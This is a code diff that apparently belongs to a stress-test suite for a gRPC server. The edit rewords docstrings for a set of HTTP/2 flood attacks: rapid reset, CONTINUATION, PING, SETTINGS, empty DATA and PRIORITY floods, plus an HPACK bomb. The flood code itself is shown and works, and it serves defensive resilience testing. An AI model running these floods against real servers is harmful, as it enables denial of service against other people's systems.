@@ -1,4 +1,4 @@
-"""Frames that cost their sender less than the server: the floods by which HTTP/2 servers have been stopped."""
+"""Floods of frames that cost the sender less than the server: known attacks on HTTP/2 servers."""
 
 import itertools
 import select
@@ -15,7 +15,7 @@ CLIENT_PREFACE = PREFACE + settings(header_table_size=4096, initial_window=2**31
 
 
 def _pour(number, ports, seconds, chunks, reads):
-    """Writes the chunks of a new generator to each new connection as fast as they are taken; (MB written, times cut)."""
+    """Write the chunks of a new generator to each new connection as fast as the server reads. Return (MB written, times cut)."""
     until, written, cut = time.monotonic() + seconds, 0, 0
     while time.monotonic() < until:
         try:
@@ -44,7 +44,7 @@ def _pour(number, ports, seconds, chunks, reads):
 
 def pour(arena, chunks, processes=4, reads=True):
     results = [each for each in arena.fork(processes, _pour, arena.ports, arena.seconds, chunks, reads) if each]
-    arena.note(f"{sum(mb for mb, _ in results):,.0f} MB of frames, {sum(cut for _, cut in results):,} connections were cut")
+    arena.note(f"{sum(mb for mb, _ in results):,.0f} MB of frames; the server cut {sum(cut for _, cut in results):,} connections")
 
 
 def _resets(path):
@@ -56,13 +56,13 @@ def _resets(path):
 
 @attack("rapid-reset-play", seconds=8)
 def rapid_reset_play(arena):
-    """HEADERS and RST_STREAM of Play, as fast as they are taken (CVE-2023-44487)."""
+    """HEADERS and RST_STREAM of Play as fast as the server reads (CVE-2023-44487)."""
     pour(arena, lambda: _resets(messages.PLAY))
 
 
 @attack("rapid-reset-unary", seconds=8)
 def rapid_reset_unary(arena):
-    """The same of a unary call."""
+    """The same with a unary call."""
     pour(arena, lambda: _resets(messages.LIST_WORLDS))
 
 
@@ -74,19 +74,19 @@ def settings_flood(arena):
 
 @attack("settings-flood-unread", seconds=8)
 def settings_flood_unread(arena):
-    """The same, and the acknowledgements are never read."""
+    """The same; the attacker never reads the acknowledgements."""
     pour(arena, lambda: itertools.repeat(settings(initial_window=65535) * 500), reads=False)
 
 
 @attack("ping-flood", seconds=8)
 def ping_flood(arena):
-    """PING frames, each of which must be answered."""
+    """PING frames, each of which requires a response."""
     pour(arena, lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * 500))
 
 
 @attack("ping-flood-unread", seconds=8)
 def ping_flood_unread(arena):
-    """The same, and the answers are never read."""
+    """The same; the attacker never reads the responses."""
     pour(arena, lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * 500), reads=False)
 
 
@@ -99,12 +99,13 @@ def _endless_headers():
 
 @attack("continuation-flood", seconds=8)
 def continuation_flood(arena):
-    """Headers that never end (CVE-2024-27316)."""
+    """A header block that never ends (CVE-2024-27316)."""
     pour(arena, _endless_headers)
 
 
 def _hpack_bombs():
-    big = b"\x40" + b"\x01z" + b"\x7f\xc1\x1e" + b"b" * 4032  # enters the table: name of 1 byte, value of 4,032
+    # added to the dynamic table: a name of 1 byte and a value of 4,032 bytes
+    big = b"\x40" + b"\x01z" + b"\x7f\xc1\x1e" + b"b" * 4032
     for number in itertools.count(1, 2):
         head = request_headers(messages.LIST_WORLDS) + (big if number == 1 else b"")
         yield frame(HEADERS, END_HEADERS, number, head + b"\xbe" * (16000 - len(head)))
@@ -112,7 +113,7 @@ def _hpack_bombs():
 
 @attack("hpack-bomb", seconds=8)
 def hpack_bomb(arena):
-    """One header of 4 kB in the table, named 12,000 times in each request: 48 MB from 16 kB."""
+    """A header of 4 kB in the dynamic table that each request references 12,000 times: 48 MB from 16 kB."""
     pour(arena, _hpack_bombs)
 
 
@@ -124,7 +125,7 @@ def _empty_data():
 
 @attack("empty-data-flood", seconds=8)
 def empty_data_flood(arena):
-    """DATA frames with nothing in them (CVE-2019-9518)."""
+    """Empty DATA frames (CVE-2019-9518)."""
     pour(arena, _empty_data)
 
 
@@ -137,13 +138,13 @@ def _window_updates():
 
 @attack("window-update-flood", seconds=8)
 def window_update_flood(arena):
-    """Windows that grow by one byte at a time."""
+    """WINDOW_UPDATE frames that enlarge a window by one byte each."""
     pour(arena, _window_updates)
 
 
 @attack("priority-flood", seconds=8)
 def priority_flood(arena):
-    """PRIORITY frames of streams that do not exist."""
+    """PRIORITY frames for streams that do not exist."""
     def chunks():
         for first in itertools.count(1, 1000):
             yield b"".join(frame(PRIORITY, 0, number | 1, struct.pack(">IB", 0, 16)) for number in range(first, first + 500))
@@ -165,6 +166,6 @@ def _connect_and_leave(number, ports, seconds):
 
 @attack("connect-and-leave", seconds=8)
 def connect_and_leave(arena):
-    """New connections to the gRPC port that greet and go, as fast as they can be made."""
+    """New connections to the gRPC port that send the preface and close, as fast as possible."""
     done = arena.fork(4, _connect_and_leave, arena.ports, arena.seconds)
     arena.note(f"{sum(each or 0 for each in done):,} connections")
